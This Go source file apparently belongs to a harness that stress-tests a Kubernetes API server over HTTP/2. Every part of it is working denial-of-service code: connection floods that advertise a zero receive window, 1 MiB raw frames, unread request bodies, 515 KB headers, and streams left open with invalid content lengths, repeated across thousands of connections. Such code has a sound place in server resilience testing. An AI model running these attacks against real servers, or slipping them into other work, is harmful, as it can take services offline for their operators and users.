package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams are connections of HTTP/2 whose client lets the server send it nothing, or takes its time with what it sends.
func streams() []Attack {
	get := field("GET", configMaps, stranger)
	return []Attack{
		{
			Group: "streams", Name: "frames", Forbidden: true,
			Does: "Sends a frame of 1 MiB and a request without credentials on each of 4,000 connections.",
			Run: each(4000, func(_ context.Context, c *http2Conn) error {
				return c.send(
					func(f *http2.Framer) error { return f.WriteRawFrame(0xfa, 0, 0, make([]byte, 1<<20-1)) },
					open(1, true, field("GET", configMaps, "")))
			}),
		},
		{
			Group: "streams", Name: "bodies", Forbidden: true, Answers: 100,
			Does: "Sends a body of 1 MB and another request on each of 4,000 connections, and reads no response.",
			Run: each(4000, func(ctx context.Context, c *http2Conn) error {
				all := []func(*http2.Framer) error{open(1, false, field("POST", configMaps, stranger))}
				for range 62 {
					all = append(all, func(f *http2.Framer) error { return f.WriteData(1, false, make([]byte, 16_000)) })
				}
				if err := c.send(all...); err != nil {
					return err
				}
				pause(ctx, 200*time.Millisecond)
				return c.send(open(3, true, get))
			}),
		},
		{
			Group: "streams", Name: "forbidden", Forbidden: true, Answers: 100,
			Does: "Makes 100 requests that are forbidden on each of 2,500 connections, and reads no response.",
			Run:  each(2500, hundred(get)),
		},
		{
			Group: "streams", Name: "answers", Answers: 100,
			Does: "Makes 100 requests on each of 2,500 connections, and reads no response.",
			Run:  each(2500, hundred(field("GET", configMaps, attacker))),
		},
		{
			Group: "streams", Name: "heads", Forbidden: true, Answers: 100,
			Does: "Makes a request with a header of 515 KB after seven short ones, repeatedly on 400 connections, and " +
				"reads no response.",
			Run: each(400, func(ctx context.Context, c *http2Conn) error {
				long := append(field("GET", configMaps, stranger), [2]string{"x-long", strings.Repeat("~", 515_000)})
				for i := range uint32(100) {
					head := get
					if i%8 == 7 {
						head = long
					}
					answered := c.answers.Load()
					if err := c.send(open(2*i+1, true, head)); err != nil {
						return err
					}
					for c.answers.Load() == answered {
						if !pause(ctx, time.Millisecond) || c.ended.Load() {
							return nil
						}
					}
				}
				return nil
			}),
		},
		{
			Group: "streams", Name: "lengths", Forbidden: true,
			Does: "Begins 1,000 requests with bodies of length 0, and never ends them.",
			Run:  each(10, hundredOpen("0")),
		},
		{
			Group: "streams", Name: "no-lengths", Forbidden: true,
			Does: "Does the same with a length that is no number.",
			Run:  each(10, hundredOpen("x")),
		},
	}
}

// hundred makes a hundred requests at once.
func hundred(head [][2]string) func(context.Context, *http2Conn) error {
	return func(_ context.Context, c *http2Conn) error {
		for i := range uint32(100) {
			if err := c.send(open(2*i+1, true, head)); err != nil {
				return err
			}
		}
		return nil
	}
}

// hundredOpen begins a hundred requests whose bodies don't come.
func hundredOpen(length string) func(context.Context, *http2Conn) error {
	return func(_ context.Context, c *http2Conn) error {
		head := append(field("POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", stranger),
			[2]string{"content-type", "application/json"}, [2]string{"content-length", length})
		for i := range uint32(100) {
			if err := c.send(open(2*i+1, false, head)); err != nil {
				return err
			}
		}
		return nil
	}
}

// field are the fields of a request's head.
func field(method, path, user string) [][2]string {
	f := [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}}
	if user != "" {
		f = append(f, [2]string{"authorization", "Bearer " + token(user)})
	}
	return f
}

// http2Conn is a connection whose client gives the server no window.
type http2Conn struct {
	net.Conn
	mu sync.Mutex // guards w and f
	w  *bufio.Writer
	f  *http2.Framer
	// answers counts heads of answers, and ended says that nothing more comes.
	answers atomic.Int64
	ended   atomic.Bool
}

func (a *Attacker) http2(ctx context.Context) (*http2Conn, error) {
	u, err := url.Parse(a.Secure)
	if err != nil {
		return nil, err
	}
	under, err := (&tls.Dialer{Config: a.tls("h2")}).DialContext(ctx, "tcp", u.Host)
	if err != nil {
		return nil, err
	}
	c := &http2Conn{Conn: under, w: bufio.NewWriterSize(under, 64<<10)}
	c.f = http2.NewFramer(c.w, under)
	return c, c.send(
		func(*http2.Framer) error {
			_, err := io.WriteString(c.w, http2.ClientPreface)
			return err
		},
		func(f *http2.Framer) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		})
}

// send sends frames.
func (c *http2Conn) send(frames ...func(*http2.Framer) error) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, frame := range frames {
		if err := frame(c.f); err != nil {
			return err
		}
	}
	return c.w.Flush()
}

// open is the frames of a request's head.
func open(id uint32, end bool, head [][2]string) func(*http2.Framer) error {
	return func(f *http2.Framer) error {
		var b strings.Builder
		enc := hpack.NewEncoder(&b)
		enc.SetMaxDynamicTableSize(0)
		for _, h := range head {
			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return err
			}
		}
		rest := []byte(b.String())
		piece := rest[:min(len(rest), 16_000)]
		rest = rest[len(piece):]
		err := f.WriteHeaders(
			http2.HeadersFrameParam{StreamID: id, EndStream: end, EndHeaders: len(rest) == 0, BlockFragment: piece},
		)
		for err == nil && len(rest) > 0 {
			piece = rest[:min(len(rest), 16_000)]
			rest = rest[len(piece):]
			err = f.WriteContinuation(id, len(rest) == 0, piece)
		}
		return err
	}
}

// read takes the heads of answers, as long as there are any, and counts them.
func (c *http2Conn) read(ctx context.Context, a *Attacker) {
	defer c.ended.Store(true)
	dec := hpack.NewDecoder(4096, func(f hpack.HeaderField) {
		if f.Name == ":status" {
			code, _ := strconv.Atoi(f.Value) // the server's own
			c.answers.Add(1)
			a.count(ctx, code, nil)
		}
	})
	for {
		frame, err := c.f.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.HeadersFrame:
			_, err = dec.Write(frame.HeaderBlockFragment())
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				err = c.send((*http2.Framer).WriteSettingsAck)
			}
		}
		if err != nil {
			return
		}
	}
}

// each does something on each of n connections, which stay open as long as the server lets them, and then again.
func each(n int, do func(context.Context, *http2Conn) error) func(context.Context, *Attacker) error {
	return func(ctx context.Context, a *Attacker) error {
		var all sync.WaitGroup
		dialing := make(chan struct{}, 16)
		for range n {
			all.Go(func() {
				for ctx.Err() == nil {
					dialing <- struct{}{}
					c, err := a.http2(ctx)
					<-dialing
					if err != nil {
						a.count(ctx, 0, err)
					} else {
						c.hold(ctx, a, do)
					}
					pause(ctx, 20*time.Millisecond)
				}
			})
		}
		all.Wait()
		return nil
	}
}

// hold does something, and waits until the server ends the connection.
func (c *http2Conn) hold(ctx context.Context, a *Attacker, do func(context.Context, *http2Conn) error) {
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	var reading sync.WaitGroup
	reading.Go(func() { c.read(ctx, a) })
	if do(ctx, c) != nil {
		_ = c.Close()
	}
	reading.Wait()
	_ = c.Close()
}
